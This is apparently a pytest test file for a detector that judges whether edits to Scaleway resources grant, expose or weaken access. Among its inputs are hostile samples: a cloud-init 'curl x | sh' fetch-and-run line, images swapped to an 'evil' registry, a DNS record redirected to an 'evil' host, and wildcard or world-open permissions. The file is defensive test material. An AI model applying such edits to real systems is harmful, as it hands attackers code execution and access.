"""What single edits of Scaleway's resources do: what is weakened, opened or given, and what changes nothing. Decided from the host's pages.

Does not prove that the provider sends an edit, nor that the capture sees it.
"""

import json
from typing import Any

import pytest

from socle.facts.effects import Effect, Effects, created

from . import edited

APP, OTHER = "application_id:22222222", "application_id:33333333"
READ = {
    "Effect": "Allow", "Principal": {"SCW": [APP]}, "Action": ["s3:GetObject"], "Resource": ["own", "own/cardio/*"],
}  # fmt: skip
DENY = {**READ, "Effect": "Deny", "Action": "s3:DeleteObject"}


def policy(*statements: dict[str, Any], **form: Any) -> str:
    return json.dumps({"Version": "2023-04-17", "Statement": list(statements)}, **form)


def under(condition: dict[str, Any]) -> str:
    return policy({**READ, "Condition": condition})


def does(type_: str, name: str, old: Any, new: Any, **beside: Any) -> Effects:
    return edited.does(f"scaleway:{type_}", name, old, new, **beside)


def bucket(old: str, new: str) -> Effects:
    return does("object/bucketPolicy:BucketPolicy", "policy", old, new)


def iam(old: dict[str, Any], new: dict[str, Any]) -> Effects:
    rule = {"permissionSetNames": ["ObjectStorageObjectsRead"], "projectIds": ["p"]}
    return does("iam/policy:Policy", "rules", [{**rule, **old}], [{**rule, **new}])


ONLY_OFFICE = {"IpAddress": {"aws:SourceIp": "10.0.0.0/8"}}
UNTIL = {"DateLessThan": {"aws:CurrentTime": "2026-12-31T00:00:00Z"}}


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (policy(READ), policy({**READ, "Action": ["s3:GetObject", "s3:PutObject"]}), {"grants"}),
        (policy(READ), policy({**READ, "Action": ["s3:GetObject", "s3:PutBucketPolicy"]}), {"grants", "exposes"}),
        (policy(READ), policy({**READ, "Action": ["s3:GetObject", "s3:DeleteBucketPolicy"]}), {"grants", "exposes"}),
        (policy(READ), policy({**READ, "Action": ["s3:GetObject", "s3:PutBucketAcl"]}), {"grants", "exposes"}),
        (policy(READ), policy(READ, {**READ, "Action": "s3:*"}), {"grants", "exposes"}),
        (policy(READ), policy(READ, {**READ, "Action": "s3:BypassGovernanceRetention"}), {"grants", "weakens"}),
        (policy(READ), policy({**READ, "Resource": ["own", "own/*"]}), {"grants", "weakens"}),
        (policy({**READ, "Resource": ["own", "own/*"]}), policy(READ), {"revokes", "interrupts"}),
        (policy(READ), policy({**READ, "Principal": {"SCW": [OTHER]}}), {"grants", "revokes", "interrupts"}),
        (policy(READ, DENY), policy(READ), {"weakens"}),
        (policy(READ), policy(READ, DENY), {"revokes", "interrupts"}),
        (policy(READ, DENY), policy(READ, {**DENY, "Condition": ONLY_OFFICE}), {"weakens"}),
        (under(ONLY_OFFICE), policy(READ), {"grants", "weakens"}),
        (policy(READ), under(ONLY_OFFICE), {"revokes", "interrupts"}),
        (under(ONLY_OFFICE), under({"IpAddress": {"aws:SourceIp": "10.1.0.0/16"}}), {"revokes", "interrupts"}),
        (under(ONLY_OFFICE), under({"IpAddress": {"aws:SourceIp": "0.0.0.0/0"}}), {"grants", "weakens"}),
        (under(ONLY_OFFICE), under({**ONLY_OFFICE, **UNTIL}), {"revokes", "interrupts"}),
        (under(UNTIL), under({"DateLessThan": {"aws:CurrentTime": "2036-12-31T00:00:00Z"}}), {"grants", "weakens"}),
        (under(UNTIL), under({"DateLessThan": {"aws:CurrentTime": "2026-11-30T00:00:00Z"}}), {"revokes", "interrupts"}),
        (policy(READ), policy({**READ, "Principal": "*"}), {"exposes", "grants", "weakens"}),
        (policy(READ), policy({**READ, "NotPrincipal": {"SCW": OTHER}}), {"exposes", "grants", "revokes", "interrupts"}),
        (policy(READ), policy({**READ, "Effect": "allow"}), {"exposes", "not-known", "revokes", "interrupts"}),
        (policy(READ), policy(READ).replace('"Principal":', '"Principal": "*", "Principal":'), {"exposes", "not-known"}),
        (policy(READ, DENY), policy(DENY, READ), set()),
        (policy(READ, DENY), policy(READ, DENY, indent=2, sort_keys=True), set()),
        (policy(READ), policy({**READ, "Sid": "reads"}), set()),
        (policy(READ), policy({**READ, "Action": "s3:GetObject"}), set()),
    ],
)  # fmt: skip
def test_a_bucket_policy_is_judged_by_the_rights_that_it_gives(old: str, new: str, expected: set[str]) -> None:
    assert bucket(old, new) == expected


OFFICE = "inIpRange(request.ip, '203.0.113.0/28')"
ENDS = "request.time < timestamp('2027-01-01T00:00:00Z')"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ({}, {"permissionSetNames": ["ObjectStorageObjectsRead", "SomeNewSet"]}, {"grants"}),
        ({}, {"projectIds": ["p", "q"]}, {"grants"}),
        ({"projectIds": ["p", "q"]}, {}, {"revokes", "interrupts"}),
        ({"projectIds": ["p", "q"]}, {"projectIds": ["q", "p"]}, set()),
        ({"condition": OFFICE}, {"condition": ""}, {"grants", "weakens"}),
        ({}, {"condition": OFFICE}, {"revokes", "interrupts"}),
        ({"condition": OFFICE}, {"condition": f"{OFFICE} && {ENDS}"}, {"revokes", "interrupts"}),
        ({"condition": OFFICE}, {"condition": OFFICE.replace("/28", "/29")}, {"revokes", "interrupts"}),
        ({"condition": OFFICE}, {"condition": OFFICE.replace("/28", "/8")}, {"grants", "weakens"}),
        ({"condition": ENDS}, {"condition": ENDS.replace("2027", "2026")}, {"revokes", "interrupts"}),
        ({"condition": ENDS}, {"condition": ENDS.replace("2027", "2037")}, {"grants", "weakens"}),
        *[
            ({}, {"permissionSetNames": ["ObjectStorageObjectsRead", name]}, {"grants", "exposes"})
            for name in (
                *("AuditTrailExportDelete", "AuditTrailFullAccess", "IAMManager", "IAMPolicyManager", "IAMGroupManager"),
                *("OrganizationManager", "ObjectStorageBucketPolicyFullAccess", "AllProductsFullAccess"),
            )
        ],
        *[
            ({}, {"permissionSetNames": ["ObjectStorageObjectsRead", name]}, {"grants"})
            for name in ("AuditTrailReadOnly", "IAMReadOnly", "AuditTrailExportRead")
        ],
    ],
)  # fmt: skip
def test_a_rule_of_iam_is_judged_by_the_rights_that_it_gives(
    old: dict[str, Any], new: dict[str, Any], expected: set[str]
) -> None:
    assert iam(old, new) == expected


def test_a_text_that_begins_like_the_old_condition_is_not_one_more_test() -> None:
    assert Effect.WEAKENS in iam({"condition": "request.n == 1"}, {"condition": "request.n == 10"})
    assert Effect.WEAKENS not in iam({"condition": "request.n == 1"}, {"condition": f"request.n == 1 && {OFFICE}"})
    assert Effect.WEAKENS in iam({"condition": "request.n == 1"}, {"condition": f"&& {OFFICE}"})


@pytest.mark.parametrize("more", [" || true", " || request.time > timestamp('2000-01-01T00:00:00Z')", " ? true : true"])
def test_a_condition_that_may_hold_otherwise_too_is_weaker(more: str) -> None:
    assert Effect.WEAKENS in iam({"condition": OFFICE}, {"condition": OFFICE + more})
    assert Effect.WEAKENS in iam({"condition": OFFICE}, {"condition": f"{OFFICE} && true{more}"})


FLOW = {
    "protocol": "TCP", "source": "10.1.0.0/22", "destination": "10.1.4.0/22", "srcPortLow": 1024, "srcPortHigh": 65535,
    "dstPortLow": 443, "dstPortHigh": 443, "action": "accept", "description": "portal",
}  # fmt: skip
DROP = {
    **FLOW,
    "protocol": "ANY",
    "dstPortLow": 0,
    "dstPortHigh": 0,
    "srcPortLow": 0,
    "srcPortHigh": 0,
    "action": "drop",
}
ALL = {**DROP, "action": "accept"}
ACL = "network/acl:Acl"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ([DROP, FLOW], [FLOW, DROP], {"exposes"}),
        ([FLOW, DROP], [DROP, FLOW], {"revokes", "interrupts"}),
        ([DROP, ALL], [ALL, DROP], {"exposes"}),
        ([DROP, {**FLOW, "source": "10.9.0.0/16"}], [{**FLOW, "source": "10.9.0.0/16"}, DROP], {"not-known"}),
        ([FLOW], [{**FLOW, "dstPortLow": 1, "dstPortHigh": 65535}], {"exposes"}),
        ([FLOW], [FLOW, {**FLOW, "dstPortLow": 8443, "dstPortHigh": 8443}], {"grants"}),
        ([FLOW], [{**FLOW, "dstPortLow": 440, "dstPortHigh": 450}], {"grants"}),
        ([{**FLOW, "dstPortLow": 440, "dstPortHigh": 450}], [FLOW], {"revokes", "interrupts"}),
        (
            [FLOW],
            [FLOW, {**FLOW, "srcPortHigh": 443, "srcPortLow": 443, "dstPortLow": 1024, "dstPortHigh": 65535}],
            {"grants"},
        ),
        ([FLOW], [{**FLOW, "source": "0.0.0.0/0"}], {"exposes"}),
        ([DROP], [], {"exposes"}),
        ([FLOW], [], {"revokes", "interrupts"}),
        ([DROP], [{**DROP, "source": "10.0.0.0/8"}], {"revokes", "interrupts"}),
        ([DROP], [{**DROP, "source": "10.1.0.0/24"}], {"exposes"}),
        ([FLOW], [{**FLOW, "description": "the portal"}], set()),
        ([], [{**FLOW, "source": "not a range"}], {"grants", "not-known"}),
    ],
)
def test_a_filter_is_judged_by_what_it_lets_through(
    old: list[dict[str, Any]], new: list[dict[str, Any]], expected: set[str]
) -> None:
    assert does(ACL, "rules", old, new) == expected


def test_rules_of_a_security_group_are_met_in_order_too() -> None:
    drop, accept = ({"action": action, "ipRange": "0.0.0.0/0", "protocol": "ANY"} for action in ("drop", "accept"))
    rules = "instance/securityGroupRules:SecurityGroupRules"

    assert does(rules, "inboundRules", [drop, accept], [accept, drop]) == {"exposes"}
    near = {"action": "accept", "ipRange": "10.0.0.0/8", "port": 22, "protocol": "TCP"}
    assert does(rules, "inboundRules", [near], [{**near, "port": None, "portRange": "1-65535"}]) == {"exposes"}
    assert does(rules, "inboundRules", [near], [{**near, "portRange": "20-25"}]) == set()
    assert does(rules, "inboundRules", [near], [near, {**near, "port": 80}]) == {"grants"}


ALLOW = {"name": "a", "action": {"type": "allow"}, "match": {"ipSubnets": ["10.0.0.0/8"]}}
REFUSE = {"name": "z", "action": {"type": "deny"}, "match": {"ipSubnets": ["0.0.0.0/0"]}}


@pytest.mark.parametrize(
    ("new", "dangerous"),
    [
        ([], True),
        ([{**ALLOW, "match": {"ipSubnets": ["10.0.0.0/8"], "invert": True}}, REFUSE], True),
        ([ALLOW, {**REFUSE, "match": {"ipSubnets": ["192.0.2.0/24"]}}], True),
        ([ALLOW, {**REFUSE, "action": {"type": "redirect"}}], True),
        ([{**ALLOW, "match": {"ipSubnets": ["10.1.0.0/16"]}}, REFUSE], False),
        ([{**ALLOW, "name": "b", "description": "offices"}, REFUSE], False),
    ],
)
def test_who_a_load_balancer_serves(new: list[dict[str, Any]], dangerous: bool) -> None:
    found = does("loadbalancers/frontend:Frontend", "acls", [ALLOW, REFUSE], new)
    assert (Effect.EXPOSES in found) is dangerous


def test_a_rule_of_a_load_balancer_counts_by_its_place() -> None:
    def moved(rule: dict[str, Any], old: int, new: int) -> Effects:
        return does("loadbalancers/acl:Acl", "index", old, new, action=rule["action"], match=rule["match"])

    assert {"exposes", "weakens"} == moved(REFUSE, 1, 99) == moved(ALLOW, 99, 1)
    assert {"revokes", "interrupts"} == moved(REFUSE, 99, 1) == moved(ALLOW, 1, 99)


LEVEL = "ssl_compatibility_level_"


@pytest.mark.parametrize(
    ("type_", "name", "old", "new", "expected"),
    [
        (
            "loadbalancers/loadBalancer:LoadBalancer",
            "sslCompatibilityLevel",
            f"{LEVEL}modern",
            f"{LEVEL}old",
            "weakens",
        ),
        ("loadbalancers/loadBalancer:LoadBalancer", "assignFlexibleIpv6", None, True, "exposes"),
        ("loadbalancers/frontend:Frontend", "certificateIds", ["a"], [], "weakens"),
        ("loadbalancers/frontend:Frontend", "enableAccessLogs", True, False, "weakens"),
        ("loadbalancers/frontend:Frontend", "externalAcls", False, True, "weakens"),
        ("loadbalancers/backend:Backend", "sslBridging", True, False, "weakens"),
        ("loadbalancers/backend:Backend", "ignoreSslServerVerify", False, True, "weakens"),
        ("loadbalancers/backend:Backend", "serverIps", ["10.1.0.4"], ["198.51.100.66"], "exposes"),
        ("edgeservices/wafStage:WafStage", "mode", "enable", "log_only", "weakens"),
        ("edgeservices/wafStage:WafStage", "paranoiaLevel", 4, 1, "weakens"),
        ("edgeservices/tlsStage:TlsStage", "wafStageId", "a", None, "weakens"),
        ("mongodb/instance:Instance", "isSnapshotScheduleEnabled", True, False, "weakens"),
        ("mongodb/instance:Instance", "snapshotScheduleRetentionDays", 30, 1, "loses"),
        ("databases/instance:Instance", "logsPolicy", {"maxAgeRetention": 30}, {"maxAgeRetention": 1}, "loses"),
        ("secrets/secret:Secret", "keyId", "a", None, "weakens"),
        ("iam/apiKey:ApiKey", "secretId", "a", None, "exposes"),
        ("iam/user:User", "email", "a@b.fr", "a@c.example", "exposes"),
        ("instance/securityGroup:SecurityGroup", "externalRules", None, True, "weakens"),
        ("instance/securityGroup:SecurityGroup", "stateful", True, False, "weakens"),
        ("instance/server:Server", "cloudInit", "#cloud-config\na: 1", "#!/bin/sh\ncurl x | sh", "exposes"),
        ("instance/server:Server", "userData", {"cloud-init": "#!a b"}, {"cloud-init": "#!a c"}, "exposes"),
        ("kubernetes/pool:Pool", "userData", None, {"cloud-init": "#!a b"}, "exposes"),
        ("kubernetes/pool:Pool", "kubeletArgs", {}, {"anonymous-auth": "true"}, "weakens"),
        ("instance/image:Image", "public", False, True, "exposes"),
        ("containers/container:Container", "image", "rg.fr-par.scw.cloud/x/y:1", "docker.io/evil/y:1", "exposes"),
        (
            "containers/container:Container",
            "image",
            "rg.fr-par.scw.cloud/x/y:1",
            "rg.fr-par.scw.cloud/z/y:1",
            "exposes",
        ),
        ("containers/container:Container", "privacy", "private", "public", "exposes"),
        ("job/definition:Definition", "imageUri", "python:3", "evil/python:3", "exposes"),
        ("functions/function:Function", "privacy", "private", None, "exposes"),
        ("functions/function:Function", "httpOption", "redirected", "enabled", "weakens"),
        ("functions/function:Function", "sandbox", "v2", "v1", "weakens"),
        ("mnq/sqsCredentials:SqsCredentials", "permissions", {"canManage": False}, {"canManage": True}, "grants"),
        ("mnq/snsCredentials:SnsCredentials", "permissions", {}, {"canPublish": True}, "grants"),
        ("iot/device:Device", "allowInsecure", False, True, "exposes"),
        ("iot/hub:Hub", "deviceAutoProvisioning", None, True, "exposes"),
        ("inference/deployment:Deployment", "publicEndpoint", None, {"isEnabled": True}, "exposes"),
    ],
)
def test_what_is_opened_given_or_weakened_is_told(type_: str, name: str, old: Any, new: Any, expected: str) -> None:
    assert expected in does(type_, name, old, new)
    assert (
        does(type_, name, new, old) & {Effect.LOSES, Effect.WEAKENS, Effect.EXPOSES} == set() or expected == "exposes"
    )


@pytest.mark.parametrize(
    ("type_", "name", "old", "new", "expected"),
    [
        ("account/project:Project", "description", "a", "b", set()),
        ("object/item:Item", "tags", {"a": "b"}, {"a": "c"}, set()),
        ("loadbalancers/backend:Backend", "serverIps", ["10.1.0.4", "10.1.0.5"], ["10.1.0.5", "10.1.0.4"], set()),
        ("loadbalancers/frontend:Frontend", "certificateIds", ["a"], ["b"], {"interrupts", "not-known"}),
        ("containers/container:Container", "image", "rg.fr-par.scw.cloud/x/y:1", "rg.fr-par.scw.cloud/x/y:2", {"interrupts", "not-known"}),
        ("job/definition:Definition", "imageUri", "python:3", "docker.io/library/python:3.14", {"interrupts", "not-known"}),
        ("instance/server:Server", "userData", {"data-volume": "a=1"}, {"data-volume": "a=2"}, {"not-known"}),
    ],
)  # fmt: skip
def test_what_opens_nothing_is_not_told_as_if_it_did(
    type_: str, name: str, old: Any, new: Any, expected: set[str]
) -> None:
    assert does(type_, name, old, new) == expected


@pytest.mark.parametrize(
    ("kind", "old", "new", "dangerous"),
    [
        ("A", "203.0.113.9", "198.51.100.66", True),
        ("A", "10.1.0.4", "198.51.100.66", True),
        ("A", "10.1.0.4", "10.1.0.9", False),
        ("CNAME", "a.plateforme.example.", "a.evil.example.", True),
        ("TXT", "a b", "a c", False),
    ],
)
def test_a_record_that_leads_elsewhere_hands_over_who_asks_for_it(
    kind: str, old: str, new: str, dangerous: bool
) -> None:
    found = does("domain/record:Record", "data", old, new, type=kind)
    assert (Effect.EXPOSES in found) is dangerous
    assert Effect.INTERRUPTS in found


def test_user_data_that_is_a_resource_of_its_own_is_code_under_one_key_alone() -> None:
    def put(key: str) -> Effects:
        return does("instance/userData:UserData", "value", "#!a b", "#!a c", key=key)

    assert Effect.EXPOSES in put("cloud-init")
    assert put("notes") == {"not-known"}


def test_a_bucket_that_is_born_with_its_administrators_opens_nothing() -> None:
    row = {**READ, "Action": "s3:*"}
    assert dict(created("scaleway:object/bucketPolicy:BucketPolicy", {"policy": policy(row)}))["policy"] == {"grants"}
